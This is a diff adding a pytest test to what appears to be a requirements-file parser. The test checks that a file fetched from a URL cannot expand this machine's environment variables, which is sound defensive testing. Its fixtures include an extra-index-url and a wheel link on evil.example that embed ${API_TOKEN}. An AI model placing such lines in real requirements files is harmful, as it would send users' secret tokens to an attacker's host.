@@ -26,6 +26,20 @@ def lines(reading: Reading) -> list[str]:
     return [wanted.line for wanted in reading.wanted]
 
 
+def test_a_file_behind_a_url_cannot_read_variables_of_this_machine(tmp_path: Path):
+    evil = b"--extra-index-url https://evil.example/${API_TOKEN}/simple\nx"
+    for text in (evil, b"x @ https://evil.example/${API_TOKEN}/x-1-py3-none-any.whl", b"-r ${API_TOKEN}.txt"):
+        with pytest.raises(UsageError, match="API_TOKEN"):
+            read(
+                tmp_path,
+                {"r.txt": "-r https://host.example/a.txt"},
+                fetch=lambda _url, text=text: text,
+                environ={"API_TOKEN": "secret"},
+            )
+    files = {"r.txt": "-r https://host.example/${WHICH}.txt"}
+    assert lines(read(tmp_path, files, fetch=lambda _url: b"x==1", environ={"WHICH": "a"})) == ["x==1"]
+
+
 @pytest.mark.parametrize(
     ("text", "why"),
     [
